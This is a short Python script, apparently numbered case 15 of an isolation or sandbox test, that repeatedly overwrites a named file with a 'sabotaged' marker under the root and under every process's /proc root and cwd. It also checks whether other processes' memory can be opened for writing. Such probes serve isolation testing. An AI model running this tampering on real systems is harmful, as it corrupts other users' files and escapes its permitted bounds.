"""15: change the named file wherever it can be seen, again and again, and the memory of every process in sight."""

import os
import sys
import time
from pathlib import Path

until = time.monotonic() + float(sys.argv[2])
name = sys.argv[3]
while time.monotonic() < until:
    roots = [Path("/"), *Path("/proc").glob("[0-9]*/root"), *Path("/proc").glob("[0-9]*/cwd")]
    for root in roots:
        for place in ("", "checkout", "base", "tmp"):
            try:
                (root / place / name).write_text("print('sabotaged')\n")
            except OSError:
                pass
    for path in Path("/proc").glob("[0-9]*/mem"):
        if path.parent.name != str(os.getpid()):
            try:
                os.close(os.open(path, os.O_WRONLY))
                print("memory of", (path.parent / "cmdline").read_bytes(), flush=True)
            except OSError:
                pass
    time.sleep(0.05)
